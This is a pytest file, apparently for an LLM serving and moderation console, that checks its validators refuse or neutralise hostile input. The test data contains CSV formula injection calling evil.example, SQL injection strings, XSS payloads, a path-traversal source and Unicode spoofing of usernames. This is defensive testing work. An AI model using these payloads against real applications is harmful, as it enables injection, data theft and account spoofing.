@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"], ids=["equals", "plus", "minus", "at"])
def test_a_formula_typed_as_a_username_on_the_sign_in_form_is_neutralised_in_the_export(world, prefix):
    name = f"{prefix}hyperlink(\"https://evil.example\")"
    with pytest.raises(LoginFailed):
        auth.login(world.ctx, name, "wrong password here")
    data = _export_events_csv(world.ctx, world.people["ana"], search_svc.AuditFilter(action="auth.login_failed",
                                                                                     text=name))
    header, *rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows, "the failed sign-in is in the log"
    for row in rows:
        assert not any(cell.startswith(FORMULA_START) for cell in row)
        cells = dict(zip(header, row, strict=True))
        # No account has that name: it is kept (erasably) in the details, never in the actor column.
        assert cells["actor"] == "anonymous" and json.loads(cells["details"])["username"] == name


# --- the safety policy: malformed TOML ------------------------------------------------------------------------

BAD_POLICIES = [
    ("empty", "", "The policy is empty"),
    ("whitespace", "  \n\t\n", "The policy is empty"),
    ("unterminated-table", "[rules", "not valid TOML"),
    ("missing-value", "version = ", "not valid TOML"),
    ("duplicate-key", 'version = "a"\nversion = "b"', "not valid TOML"),
    ("nul-byte", 'version = "a\x00b"', "not valid TOML"),
    ("binary-garbage", "\x00\x01\x02\xff\xfe", "not valid TOML"),
    ("sql-in-toml", "'; DROP TABLE policy_versions; --", "not valid TOML"),
    ("no-version", 'output_mode = "stream_then_scan"', "version"),
    ("version-number", "version = 1", "version"),
    ("unknown-top-key", 'version = "x"\nsurprise = 1', "surprise"),
    ("bad-output-mode", 'version = "x"\noutput_mode = "yolo"', "output_mode"),
    ("keep-raw-string", 'version = "x"\nkeep_raw_text = "yes"', "keep_raw_text"),
    ("rules-not-a-table", 'version = "x"\nrules = 1', "rules"),
    ("unknown-direction", 'version = "x"\n[rules.sideways.default]\naction = "allow"', "rules.sideways"),
    ("unknown-action", 'version = "x"\n[rules.prompt.EMAIL_ADDRESS]\naction = "nuke"', "action"),
    ("missing-action", 'version = "x"\n[rules.prompt.EMAIL_ADDRESS]\nthreshold = 0.5', "action"),
    ("threshold-too-high", 'version = "x"\n[rules.prompt.EMAIL_ADDRESS]\nthreshold = 1.5\naction = "flag"',
     "between 0 and 1"),
    ("threshold-nan", 'version = "x"\n[rules.prompt.EMAIL_ADDRESS]\nthreshold = nan\naction = "flag"',
     "between 0 and 1"),
    ("threshold-inf", 'version = "x"\n[rules.prompt.EMAIL_ADDRESS]\nthreshold = inf\naction = "flag"',
     "between 0 and 1"),
    ("threshold-string", 'version = "x"\n[rules.prompt.EMAIL_ADDRESS]\nthreshold = "high"\naction = "flag"',
     "must be a number"),
    ("monitor-only-string", 'version = "x"\n[rules.prompt.EMAIL_ADDRESS]\naction = "flag"\nmonitor_only = "no"',
     "monitor_only"),
    ("redact-a-whole-text-label", 'version = "x"\n[rules.prompt.toxicity]\naction = "redact"', "no span"),
    ("redact-jailbreak", 'version = "x"\n[rules.prompt.jailbreak]\naction = "redact"',
     "rules.prompt.jailbreak.action: redact is not meaningful for jailbreak: use allow, flag or block"),
    ("redact-prompt-injection-output", 'version = "x"\n[rules.output.prompt_injection]\naction = "redact"',
     "redact is not meaningful for prompt_injection"),
    ("block-threshold-below-threshold",
     'version = "x"\n[rules.prompt.jailbreak]\nthreshold = 0.8\naction = "flag"\nblock_threshold = 0.5',
     "block_threshold: must be at least the threshold (0.8)"),
    ("block-threshold-on-a-block-rule", 'version = "x"\n[rules.prompt.jailbreak]\naction = "block"\nblock_threshold = 0.9',
     'needs action = "flag"'),
    ("block-threshold-string", 'version = "x"\n[rules.prompt.jailbreak]\naction = "flag"\nblock_threshold = "high"',
     "block_threshold: must be a number"),
    ("block-threshold-nan", 'version = "x"\n[rules.prompt.jailbreak]\naction = "flag"\nblock_threshold = nan',
     "between 0 and 1"),
    ("lone-surrogate", 'version = "x\ud800"', "policy"),
]


@pytest.mark.parametrize("content,fragment", cases("policy", BAD_POLICIES))
def test_a_malformed_policy_is_refused_naming_the_problem_and_the_policy_in_force_stays(world, content, fragment):
    before = (world.stack.policy_version, world.stack.policy.sha256)
    with refused(world, fragment, InvalidInput):
        policy_changes.propose(world.chat, world.people["ada"], content, "a change", 7)
    assert (world.stack.policy_version, world.stack.policy.sha256) == before
    assert policy_svc.current(world.chat, world.people["ada"]).version == before[0]


# A proposal's other fields (issue 25): the reason and the days to backtest.
BAD_PROPOSALS = [
    ("days-zero", {"days": 0}, "Days to backtest must be from 1 to 90 days, got 0"),
    ("days-10000", {"days": 10_000}, "Days to backtest must be from 1 to 90 days, got 10000"),
    ("days-negative", {"days": -3}, "from 1 to 90"),
    ("days-fraction", {"days": 1.5}, "whole number"),
    ("days-none", {"days": None}, "whole number"),
    ("reason-empty", {"reason": ""}, "reason"),
    ("reason-blank", {"reason": " \u200b\n"}, "reason"),
    ("reason-too-long", {"reason": "x" * 1001}, "reason"),
]


@pytest.mark.parametrize("changes,fragment", cases("policy-proposal", BAD_PROPOSALS))
def test_a_bad_policy_proposal_is_refused_naming_the_field_and_stores_no_request(world, changes, fragment):
    args = {"content": POLICY + "\n# proposed\n", "reason": "a change", "days": 7, **changes}
    with refused(world, fragment, InvalidInput):
        policy_changes.propose(world.chat, world.people["ada"], **args)
    assert [c for c in policy_changes.list_changes(world.chat, world.people["ada"], "pending")
            if c.content == args["content"]] == []


def test_a_valid_policy_is_still_accepted_after_the_malformed_ones(world):
    content = POLICY + "\n# still accepted\n"
    request = policy_changes.propose(world.chat, world.people["ada"], content, "a valid change", 7)
    policy_changes.approve(world.chat, world.people["otto"], request.id)
    view = policy_svc.current(world.chat, world.people["ada"])
    assert view.version == world.stack.policy_version and view.content == content


# --- evaluation suites: malformed uploads ---------------------------------------------------------------------


def _good_row(i: int = 1, **changes: Any) -> dict[str, Any]:
    return {"id": f"q{i}", "prompt": "Where is my order?", "kind": "in_domain", "expected_topic": TOPICS[3],
            **changes}


def _suite_jsonl(*rows: Any) -> bytes:
    return "".join(json.dumps(r) + "\n" for r in rows).encode("utf-8")


BAD_UPLOADS = [
    ("text-file", "suite.txt", _suite_jsonl(_good_row()), "upload a .jsonl or .csv file"),
    ("no-file-name", "", _suite_jsonl(_good_row()), "upload a .jsonl or .csv file"),
    ("empty-file", "suite.jsonl", b"", "no prompts"),
    ("blank-lines", "suite.jsonl", b"\n\n   \n", "no prompts"),
    ("broken-json", "suite.jsonl", b'{"id": "q1", "prompt": ', "not valid JSON"),
    ("json-array-line", "suite.jsonl", b"[1, 2, 3]\n", "expected a JSON object"),
    ("missing-prompt", "suite.jsonl", _suite_jsonl({"id": "q1", "kind": "off_topic"}), "prompt is missing"),
    ("unknown-field", "suite.jsonl", _suite_jsonl(_good_row(answer="42")), "unknown field"),
    ("prompt-not-text", "suite.jsonl", _suite_jsonl(_good_row(prompt={"a": 1})), "prompt must be text"),
    ("bad-kind", "suite.jsonl", _suite_jsonl(_good_row(kind="evil")), "is not one of"),
    ("no-topic", "suite.jsonl", _suite_jsonl(_good_row(expected_topic=None)), "expected_topic is required"),
    ("duplicate-ids", "suite.jsonl", _suite_jsonl(_good_row(), _good_row()), "already used on line"),
    ("bad-id", "suite.jsonl", _suite_jsonl(_good_row(id="'; DROP TABLE evaluations; --")), "must be 1-100"),
    ("lone-bias-row", "suite.jsonl",
     _suite_jsonl({"id": "b1", "prompt": "p", "kind": "bias", "pair_id": "p1", "group": "woman"}), "only one row"),
    ("prompt-too-long", "suite.jsonl", _suite_jsonl(_good_row(prompt="p" * 4001)), "the limit is 4000"),
    ("not-utf8", "suite.jsonl", b'{"id": "q1"}\n\xff\xfe\xfa', "not UTF-8"),
    ("too-many-rows", "suite.jsonl", _suite_jsonl(*(_good_row(i) for i in range(MAX_ROWS + 1))),
     f"more than {MAX_ROWS} prompts"),
    ("over-two-megabytes", "suite.jsonl", b" " * (MAX_BYTES + 1), "larger than 2 MB"),
    ("csv-wrong-columns", "suite.csv", b"question,answer\nWhere?,Here\n", "unknown column"),
    ("csv-missing-column", "suite.csv", b"id,prompt\nq1,Where?\n", "missing column(s) kind"),
    ("csv-duplicate-column", "suite.csv", b"id,prompt,kind,kind\nq1,Where?,off_topic,off_topic\n",
     "more than once"),
    ("csv-ragged-row", "suite.csv", b"id,prompt,kind\nq1,Where?\n", "has 2 cells; the header has 3"),
    ("csv-only-header", "suite.csv", b"id,prompt,kind\n", "no prompts"),
    ("builtin-name", "standard.jsonl", _suite_jsonl(_good_row()), "built-in suite"),
    ("lone-surrogate-text", "suite.jsonl", '{"id": "q1", "prompt": "\ud800", "kind": "off_topic"}\n', "suite"),
]


@pytest.mark.parametrize("filename,data,fragment", cases("upload", BAD_UPLOADS))
def test_a_malformed_suite_upload_is_refused_with_its_line_and_nothing_is_stored(world, filename, data, fragment):
    with refused(world, fragment, InvalidInput):
        evaluation_svc.upload_suite(world.ctx, world.people["ada"], filename, data)


def test_a_suite_with_nul_and_html_in_its_prompts_is_parsed_as_text(world):
    suite = evaluation_svc.upload_suite(world.ctx, world.people["ada"], "odd.csv",
                                        b'id,prompt,kind\nq1,"<script>x</script> =1+1",off_topic\n')
    assert suite.records[0].prompt == "<script>x</script> =1+1"


def test_a_good_suite_is_still_accepted_after_the_malformed_ones(world):
    suite = evaluation_svc.upload_suite(world.ctx, world.people["ada"], "refunds.jsonl",
                                        _suite_jsonl(_good_row(1), _good_row(2)))
    assert suite.name == "refunds" and len(suite) == 2


# --- users and sign-in ------------------------------------------------------------------------------------------

BAD_NEW_USERS = [
    ("username-10mb", {"username": HUGE_NAME}, "A username has"),
    ("username-empty", {"username": ""}, "A username has"),
    ("username-one-char", {"username": "a"}, "A username has"),
    ("username-nul", {"username": "eve\x00admin"}, "A username has"),
    ("username-rtl-override", {"username": "eve\u202enimda"}, "A username has"),
    ("username-zero-width", {"username": "ad\u200bmin"}, "A username has"),
    ("username-fullwidth", {"username": "\uff41\uff44\uff41"}, "A username has"),
    ("username-html", {"username": "<b>eve</b>"}, "A username has"),
    ("username-lone-surrogate", {"username": "eve\ud800"}, "A username has"),
    ("username-taken-in-caps", {"username": "ADA"}, "is taken"),
    ("email-10mb", {"email": HUGE_NAME + "@example.com"}, "at most 254"),
    ("email-kelvin-sign", {"email": "\u212aate@example.com"}, "normalisation"),
    ("email-not-an-address", {"email": "not an email"}, "is not an email address"),
    ("email-nul", {"email": "eve\x00@example.com"}, "email"),
    ("email-rtl-override", {"email": "eve\u202e@example.com"}, "email"),
    ("display-name-1mb", {"display_name": HUGE}, "the limit is 200"),
    ("password-short", {"password": "short"}, "at least 12"),
    ("password-whitespace", {"password": " " * 20}, "must not be empty"),
    ("password-10mb", {"password": HUGE_NAME}, "at most 1,024"),
    ("password-lone-surrogate", {"password": "correct horse \ud800 staple"}, "password"),
    ("no-roles", {"roles": []}, "at least one role"),
    ("unknown-role", {"roles": ["superuser"]}, "Unknown role"),
    ("sql-role", {"roles": ["admin' --"]}, "Unknown role"),
    ("sso-user-without-email", {"password": None}, "needs an email"),
]


@pytest.mark.parametrize("name,change,fragment", cases("new-user", [(c[0], *c) for c in BAD_NEW_USERS]))
def test_a_bad_new_user_is_refused_with_a_clear_message(world, name, change, fragment):
    fields = {"username": name, "password": STRONG_PASSWORD, "roles": ["operator"], "display_name": None,
              "email": None, **change}
    with refused(world, fragment, InvalidInput):
        users_svc.add_user(world.ctx, world.people["ada"], fields["username"], fields["password"], fields["roles"],
                           display_name=fields["display_name"], email=fields["email"])


def test_a_hostile_display_name_is_stored_as_text_and_shown_inert(world):
    view = users_svc.add_user(world.ctx, world.people["ada"], "hostile-name", STRONG_PASSWORD, ["operator"],
                              display_name="<img src=x onerror=alert(1)> [x](https://evil.example)")
    _assert_inert(view.display_name or "")


BAD_SIGN_INS = [
    ("username-10mb", HUGE_NAME, STRONG_PASSWORD, "at most 64"),
    ("password-10mb", "ada", HUGE_NAME, "at most 64"),
    ("both-empty", "", "", "Enter a username and a password"),
    ("whitespace-username", "   ", STRONG_PASSWORD, "Enter a username and a password"),
    ("nul-in-username", "ada\x00", STRONG_PASSWORD, auth.GENERIC_FAILURE),
    ("rtl-override", "\u202eada", STRONG_PASSWORD, auth.GENERIC_FAILURE),
    ("zero-width-inside", "a\u200bda", STRONG_PASSWORD, auth.GENERIC_FAILURE),
    ("fullwidth-letters", "\uff41\uff44\uff41", STRONG_PASSWORD, auth.GENERIC_FAILURE),
    ("quote-or-true", "' OR '1'='1", "' OR '1'='1", auth.GENERIC_FAILURE),
    ("comment-out-password", "ada'--", "anything", auth.GENERIC_FAILURE),
    ("html", "<script>alert(1)</script>", STRONG_PASSWORD, auth.GENERIC_FAILURE),
    ("lone-surrogate-username", "ada\ud800", STRONG_PASSWORD, auth.GENERIC_FAILURE),
    ("lone-surrogate-password", "nobody", "pass\ud800word!!", auth.GENERIC_FAILURE),
]


@pytest.mark.parametrize("username,password,fragment", cases("sign-in", BAD_SIGN_INS))
def test_a_bad_sign_in_is_refused_and_what_the_log_keeps_of_it_is_bounded(world, username, password, fragment):
    before = _total_events(world)
    with refused(world, fragment, LoginFailed):
        auth.login(world.ctx, username, password)
    with world.db.session(readonly=True) as s:
        new = list(audit_q.iter_events(s, after_seq=before))
    for event in new:
        assert event.action.startswith("auth.")
        for text in (event.actor, event.object_id or "", json.dumps(event.details, ensure_ascii=False)):
            assert len(text) < 500
            _storable(text)


def test_the_admin_still_signs_in_after_the_bad_sign_ins(world):
    assert auth.login(world.ctx, " ADA ", STRONG_PASSWORD).username == "ada"


# --- huge and odd notes and reasons -------------------------------------------------------------------------


def _reviewable_item(w: World) -> int:
    return flag(w.ctx, w.people["olga"])


NOTE_CASES: list[tuple[str, Callable[[World], Any], str]] = [
    ("send-to-review-1mb", lambda w: chat_svc.send_to_review(w.ctx, w.people["olga"], w.exchange_id, HUGE), "2,000"),
    ("send-to-review-empty", lambda w: chat_svc.send_to_review(w.ctx, w.people["olga"], w.exchange_id, ""),
     "The note for the reviewer is required"),
    ("send-to-review-whitespace", lambda w: chat_svc.send_to_review(w.ctx, w.people["olga"], w.exchange_id, " \n "),
     "The note for the reviewer is required"),
    ("send-to-review-only-nul", lambda w: chat_svc.send_to_review(w.ctx, w.people["olga"], w.exchange_id, "\x00\x00"),
     "The note for the reviewer is required"),
    ("decide-1mb-note", lambda w: review.decide(w.ctx, w.people["rita"], w.open_item, "false_positive", note=HUGE),
     "2,000"),
    ("decide-bulk-1mb-note", lambda w: review.decide_bulk(w.ctx, w.people["rita"], [w.open_item], "false_positive",
                                                          note=HUGE), "2,000"),
    ("decide-bulk-nothing", lambda w: review.decide_bulk(w.ctx, w.people["rita"], [], "false_positive"),
     "Select at least one item"),
    ("correct-1mb-note", lambda w: review.correct(w.ctx, w.people["rita"], w.decided_item, "violation",
                                                  category="other", note=HUGE), "2,000"),
    ("escalation-1mb-note", lambda w: review.decide_escalation(w.ctx, w.people["ada"], w.escalated_item,
                                                               "false_positive", note=HUGE), "2,000"),
    ("reveal-1mb-reason", lambda w: review.reveal_raw(w.ctx, w.people["rita"], w.open_item, "prompt", HUGE),
     "2,000"),
    ("reveal-empty-reason", lambda w: review.reveal_raw(w.ctx, w.people["rita"], w.open_item, "prompt", "  "),
     "The reason to reveal the raw text is required"),
    ("reveal-bad-direction", lambda w: review.reveal_raw(w.ctx, w.people["rita"], w.open_item, "both", "why"),
     "Choose the prompt or the output"),
    ("decide-unknown-decision", lambda w: review.decide(w.ctx, w.people["rita"], w.open_item, "approve"),
     "Choose a decision"),
    ("decide-violation-no-category", lambda w: review.decide(w.ctx, w.people["rita"], w.open_item, "violation"),
     "needs a category"),
    ("decide-sql-category", lambda w: review.decide(w.ctx, w.people["rita"], w.open_item, "violation",
                                                    category="other' --"), "needs a category"),
    ("escalate-without-note", lambda w: review.decide(w.ctx, w.people["rita"], w.open_item, "escalate", note="  "),
     "a note is required"),
    ("serve-1mb-reason", lambda w: serving_svc.serve(w.ctx, w.people["ada"], "tiny-a", HUGE), "the limit is 1,000"),
    ("serve-empty-reason", lambda w: serving_svc.serve(w.ctx, w.people["ada"], "tiny-a", "\n\t "), "reason for serving a version is required"),
    ("restart-1mb-reason", lambda w: serving_svc.request_restart(w.ctx, w.people["ada"], HUGE), "the limit is 1,000"),
    ("alias-1mb-reason", lambda w: registry.set_alias(w.ctx, w.people["ada"], "tiny-a", "qa", HUGE),
     "the limit is 1,000"),
    ("retire-1mb-reason", lambda w: registry.retire(w.ctx, w.people["ada"], "tiny-a", HUGE), "the limit is 1,000"),
    ("promotion-1mb-reason", lambda w: promotion_svc.request_promotion(w.ctx, w.people["ada"], "tiny-a", "qa",
                                                                       HUGE), "the limit is 1,000"),
    ("approve-1mb-note", lambda w: promotion_svc.approve(w.ctx, w.people["rita"], w.request_id, HUGE),
     "the limit is 1,000"),
    ("approve-1mb-override", lambda w: promotion_svc.approve(w.ctx, w.people["rita"], w.request_id, "ok",
                                                             override_reason=HUGE), "the limit is 1,000"),
    ("reject-1mb-note", lambda w: promotion_svc.reject(w.ctx, w.people["rita"], w.request_id, HUGE), "the limit is 1,000"),
    # Issue 25, item 2: a thumbs-down's reason, and a rating that is neither thumbs up nor down.
    ("feedback-1mb-reason", lambda w: feedback_svc.give_feedback(w.ctx, w.people["olga"], w.exchange_id, -1, HUGE),
     "the limit is 1,000"),
    ("feedback-rating-5", lambda w: feedback_svc.give_feedback(w.ctx, w.people["olga"], w.exchange_id, 5),
     "1 (thumbs up) or -1 (thumbs down)"),
    ("feedback-not-yours", lambda w: feedback_svc.give_feedback(w.ctx, w.people["oscar"], w.exchange_id, -1, "x"),
     "not yours"),
    ("reset-password-10mb", lambda w: users_svc.reset_password(w.ctx, w.people["ada"], w.people["olga"].user_id,
                                                               HUGE_NAME), "at most 1,024"),
]


@pytest.mark.parametrize("call,fragment", [c[1:] for c in NOTE_CASES], ids=[c[0] for c in NOTE_CASES])
def test_a_huge_or_missing_note_or_reason_is_refused_and_nothing_changes(world, call, fragment):
    with refused(world, fragment):
        call(world)




def test_a_one_megabyte_cancel_note_is_refused(world):
    request = promotion_svc.request_promotion(world.ctx, world.people["ada"], "tiny-a", "candidate", "to cancel")
    with refused(world, "1,000"):
        promotion_svc.cancel(world.ctx, world.people["ada"], request.id, HUGE)


def test_a_one_megabyte_model_description_is_refused(world, tiny_model_dir):
    with refused(world, "characters"):
        registry.register(world.ctx, world.people["ada"], name="tiny-huge-notes", source=str(tiny_model_dir),
                            revision=None, dtype=None, max_model_len=None, engine_args=None, description=HUGE)


def _stored_note_of_manual_item(w: World, item_id: int) -> str:
    with w.db.session(readonly=True) as s:
        return items_q.get_review_item(s, item_id).note or ""


def _stored_decision_note(w: World, result: Any) -> str:
    with w.db.session(readonly=True) as s:
        return s.get(ReviewDecision, result.decision_id).note or ""


def _stored_alias_reason(w: World, alias: str) -> str:
    with w.db.session(readonly=True) as s:
        move = s.scalars(select(AliasMove).where(AliasMove.alias == alias).order_by(AliasMove.id.desc())).first()
        return move.reason


def _stored_request_reason(w: World, view: Any) -> str:
    with w.db.session(readonly=True) as s:
        return s.get(PromotionRequest, view.id).reason


def _stored_display_name(w: World, view: Any) -> str:
    with w.db.session(readonly=True) as s:
        return users_q.get_user(s, view.id).display_name or ""


def _stored_restart_reason(w: World) -> str:
    with w.db.session(readonly=True) as s:
        return state_q.get_state(s, serving_svc.RESTART_KEY)["reason"]


def _last_event_detail(w: World, action: str, key: str) -> str:
    with w.db.session(readonly=True) as s:
        return list(audit_q.iter_events(s, action=action))[-1].details[key]


ODD_TEXTS = [
    ("nul", "check\x00 this\x00"),
    ("lone-surrogate", "check \ud800 this"),
    ("html-and-link", "check <script>x</script> ![p](https://evil.example/p.png)"),
]
Sink = Callable[[World, str, str], str]
STORED_TEXT_SINKS: list[tuple[str, Sink]] = [
    ("feedback-reason", lambda w, i, t: feedback_svc.give_feedback(
        w.ctx, w.people["olga"], _plain_exchange(w), -1, t).feedback.reason or ""),
    ("send-to-review-note", lambda w, i, t: _stored_note_of_manual_item(
        w, chat_svc.send_to_review(w.ctx, w.people["olga"], _plain_exchange(w), t))),
    ("decision-note", lambda w, i, t: _stored_decision_note(
        w, review.decide(w.ctx, w.people["rita"], _reviewable_item(w), "false_positive", note=t, share=0.0))),
    ("reveal-reason", lambda w, i, t: (review.reveal_raw(w.ctx, w.people["rita"], w.open_item, "prompt", t),
                                       _last_event_detail(w, "review.reveal_reason", "reason"))[1]),
    ("alias-reason", lambda w, i, t: _stored_alias_reason(
        w, registry.set_alias(w.ctx, w.people["ada"], "tiny-a", f"alias-{i}", t))),
    ("restart-reason", lambda w, i, t: (serving_svc.request_restart(w.ctx, w.people["ada"], t),
                                        _stored_restart_reason(w))[1]),
    ("promotion-reason", lambda w, i, t: _stored_request_reason(
        w, promotion_svc.request_promotion(w.ctx, w.people["ada"], "tiny-a", f"promo-{i}", t))),
    ("display-name", lambda w, i, t: _stored_display_name(
        w, users_svc.add_user(w.ctx, w.people["ada"], f"display-{i}", STRONG_PASSWORD, ["operator"], display_name=t))),
]
ODD_CASES = [(f"{sn}-{tn}", fn, tn, text) for sn, fn in STORED_TEXT_SINKS for tn, text in ODD_TEXTS]


@pytest.mark.parametrize("sink,text_id,text", cases("odd", ODD_CASES))
def test_odd_characters_in_notes_and_reasons_are_refused_or_stored_clean_and_inert(world, sink, text_id, text):
    try:
        stored = sink(world, text_id, text)
    except ConsoleError as exc:  # refusing it with a clear message is fine too
        _clear(exc, "")
        return
    _storable(stored)
    _assert_inert(stored)
    assert "check" in stored  # the rest of the text is kept


def test_personal_data_in_a_note_is_cut_before_it_is_stored(world):
    item = chat_svc.send_to_review(world.ctx, world.people["olga"], _plain_exchange(world),
                                   "the customer bob\u2062@example.com complained")
    note = _stored_note_of_manual_item(world, item)
    assert "example.com" not in note and "<EMAIL_ADDRESS>" in note


# --- unknown ids and other people's objects ---------------------------------------------------------------------

UNKNOWN = [
    ("review-item-view", lambda w: review.item_view(w.ctx, w.people["rita"], UNKNOWN_ID), "999999"),
    ("review-item-view-zero", lambda w: review.item_view(w.ctx, w.people["rita"], 0), "does not exist"),
    ("review-item-view-negative", lambda w: review.item_view(w.ctx, w.people["rita"], -1), "does not exist"),
    ("review-item-view-huge", lambda w: review.item_view(w.ctx, w.people["rita"], 2**62), "does not exist"),
    ("review-claim", lambda w: review.claim(w.ctx, w.people["rita"], UNKNOWN_ID), "999999"),
    ("review-decide", lambda w: review.decide(w.ctx, w.people["rita"], UNKNOWN_ID, "false_positive"), "999999"),
    ("review-decide-bulk-with-one-unknown", lambda w: review.decide_bulk(
        w.ctx, w.people["rita"], [w.open_item, UNKNOWN_ID], "false_positive"), "999999"),
    ("review-reveal", lambda w: review.reveal_raw(w.ctx, w.people["rita"], UNKNOWN_ID, "prompt", "why"), "999999"),
    ("review-correct", lambda w: review.correct(w.ctx, w.people["rita"], UNKNOWN_ID, "false_positive", note="n"),
     "decided"),
    ("review-second-opinion", lambda w: review.decide_second_review(w.ctx, w.people["rita"], UNKNOWN_ID,
                                                                     "false_positive"), "999999"),
    ("escalation-view", lambda w: review.escalation_view(w.ctx, w.people["ada"], UNKNOWN_ID), "999999"),
    ("escalation-decide", lambda w: review.decide_escalation(w.ctx, w.people["ada"], UNKNOWN_ID, "false_positive",
                                                             note="n"), "999999"),
    ("escalation-of-an-open-item", lambda w: review.escalation_view(w.ctx, w.people["ada"], w.open_item),
     "not escalated"),
    ("promotion-get", lambda w: promotion_svc.get_request(w.ctx, w.people["ada"], UNKNOWN_ID), "#999999"),
    ("promotion-approve", lambda w: promotion_svc.approve(w.ctx, w.people["rita"], UNKNOWN_ID, "ok"), "#999999"),
    ("promotion-reject", lambda w: promotion_svc.reject(w.ctx, w.people["rita"], UNKNOWN_ID, "no"), "#999999"),
    ("promotion-cancel", lambda w: promotion_svc.cancel(w.ctx, w.people["ada"], UNKNOWN_ID), "#999999"),
    ("evaluation-get", lambda w: evaluation_svc.get_evaluation(w.ctx, w.people["ada"], UNKNOWN_ID), "#999999"),
    ("evaluation-cancel", lambda w: evaluation_svc.cancel_evaluation(w.ctx, w.people["ada"], UNKNOWN_ID), "#999999"),
    ("evaluation-report", lambda w: evaluation_svc.get_report(w.ctx, w.people["ada"], UNKNOWN_ID), "#999999"),
    ("evaluation-compare", lambda w: evaluation_svc.compare_evaluations(w.ctx, w.people["ada"], UNKNOWN_ID,
                                                                        UNKNOWN_ID - 1), "#99999"),
    ("conversation-unknown", lambda w: chat_svc.conversation_history(w.chat, w.people["olga"], UNKNOWN_ID),
     "does not exist or is not yours"),
    ("conversation-of-another-user", lambda w: chat_svc.conversation_history(w.chat, w.people["oscar"],
                                                                              w.conversation_id), "not yours"),
    ("continue-another-users-conversation", lambda w: chat_svc.start_turn(
        w.chat, w.people["oscar"], w.conversation_id, "Hijack", **SAMPLING), "not yours"),
    ("send-another-users-exchange-to-review", lambda w: chat_svc.send_to_review(
        w.ctx, w.people["oscar"], w.exchange_id, "look"), "not yours"),
    ("send-unknown-exchange-to-review", lambda w: chat_svc.send_to_review(w.ctx, w.people["olga"], UNKNOWN_ID,
                                                                          "look"), "does not exist"),
    ("user-roles", lambda w: users_svc.set_roles(w.ctx, w.people["ada"], UNKNOWN_ID, ["operator"]), "No user with id"),
    ("user-disable", lambda w: users_svc.set_disabled(w.ctx, w.people["ada"], UNKNOWN_ID, True), "No user with id"),
    ("user-reset-password", lambda w: users_svc.reset_password(w.ctx, w.people["ada"], UNKNOWN_ID, STRONG_PASSWORD),
     "No user with id"),
    ("user-unlock-by-10mb-name", lambda w: users_svc.find_user(w.ctx, w.people["ada"], HUGE_NAME), "No user named"),
]


@pytest.mark.parametrize("call,fragment", [c[1:] for c in UNKNOWN], ids=[c[0] for c in UNKNOWN])
def test_an_unknown_id_or_another_users_object_is_refused_and_nothing_changes(world, call, fragment):
    with refused(world, fragment):
        call(world)


# --- model registration ------------------------------------------------------------------------------------------

BAD_REGISTRATIONS = [
    ("path-does-not-exist", {"source": "/no/such/model/dir"}, "neither an existing local directory"),
    ("empty-source", {"source": "   "}, "Give the model's source"),
    ("nul-in-source", {"source": "/tmp/\x00model"}, "neither an existing local directory"),
    ("traversal-source", {"source": "../../../../etc"}, "cannot read the model config"),
    ("engine-args-not-json", {"engine_args": "{tensor_parallel_size: 2"}, "must be a JSON object"),
    ("engine-args-a-list", {"engine_args": "[1, 2]"}, "must be a JSON object"),
    ("engine-args-unknown", {"engine_args": '{"rm_rf": true}'}, "Unknown vLLM engine argument"),
    ("engine-args-reserved", {"engine_args": '{"model": "/etc"}'}, "own fields"),
    ("engine-args-nan", {"engine_args": '{"gpu_memory_utilization": NaN, "bogus_nan": 1}'}, "Unknown vLLM"),
    ("bad-dtype", {"dtype": "int1"}, "dtype must be one of"),
    ("max-len-negative", {"max_model_len": -1}, "Max context"),
    ("max-len-huge", {"max_model_len": 10**12}, "Max context"),
    ("unknown-quantization", {"quantization": "zip"}, "Unknown quantization"),
    ("duplicate-name", {"name": "tiny-a"}, "already registered"),
    ("name-rtl-override", {"name": "tiny\u202ea"}, "A version name has"),
    ("name-too-long", {"name": "t" * 101}, "A version name has"),
    ("unknown-lora-base", {"base": "no-such-base"}, "adapter"),
]


@pytest.mark.parametrize("change,fragment", [c[1:] for c in BAD_REGISTRATIONS], ids=[c[0] for c in BAD_REGISTRATIONS])
def test_a_bad_model_registration_is_refused_with_a_clear_message(world, tiny_model_dir, change, fragment):
    fields = {"name": "tiny-new", "source": str(tiny_model_dir), "revision": None, "dtype": None,
              "max_model_len": None, "engine_args": None, "description": None, **change}
    with refused(world, fragment, InvalidInput):
        registry.register(world.ctx, world.people["ada"], **fields)


def test_a_version_still_registers_after_the_bad_ones(world, tiny_model_dir):
    view = registry.register(world.ctx, world.people["ada"], name="tiny-after", source=str(tiny_model_dir),
                               revision=None, dtype=None, max_model_len=None, engine_args='{"enforce_eager": true}',
                               description="<b>notes</b>")
    assert view.name == "tiny-after" and view.engine_args == {"enforce_eager": True}
    _assert_inert(view.description or "")


# --- adversarial regex shapes: every whole prompt scan finishes (issue 21) --------------------------------------------
# 20,000 characters each of capitalised words, of "Aa ", of digits and spaces, of commas (and the punctuation runs
# spaCy's tokenizer read in quadratic time: 20,000 commas took 61 s) go through the whole prompt scan (Presidio with
# spaCy and our recognizers, then toxicity) in a child process, as ``llm-console bench safety --adversarial`` runs
# it. The test asserts that every scan finishes (the child has a generous 15 minutes for all of them) and prints the
# time of each; it asserts no time (that depends on the machine): tests/safety/test_recognizers_redos.py checks the
# regexes' growth and what spaCy is given, tests/chat/test_scan_timeout.py what a scan over the console's limit does.

ADVERSARIAL_BENCH = "import json; from bench.safety import run_adversarial_bench; print(json.dumps(run_adversarial_bench()))"


@pytest.mark.slow
def test_every_adversarial_shape_of_20000_characters_is_scanned_whole_and_its_time_reported():
    import subprocess

    from bench.safety import ADVERSARIAL_CHARS, ADVERSARIAL_SHAPES

    assert {"capitalised-words", "aa-words", "digits-and-spaces", "commas"} <= set(ADVERSARIAL_SHAPES)
    done = subprocess.run([sys.executable, "-c", ADVERSARIAL_BENCH], cwd=Path(__file__).resolve().parents[2],
                          capture_output=True, text=True, timeout=900, check=False)
    assert done.returncode == 0, done.stderr[-2000:]
    result = json.loads(done.stdout.strip().splitlines()[-1])
    assert result["chars"] == ADVERSARIAL_CHARS == 20_000
    assert set(result["shapes"]) == set(ADVERSARIAL_SHAPES)
    for name, shape in result["shapes"].items():
        scanners = {k: v for k, v in shape.items() if k.endswith("_ms") and k != "total_ms"}
        # Presidio, a toxicity model and the injection scanner (a prompt's scan), each timed.
        assert {"presidio_ms", "injection_ms"} <= set(scanners) and len(scanners) == 3, (name, shape)
        assert shape["total_ms"] >= 0 and all(v >= 0 for v in scanners.values()) and shape["findings"] >= 0
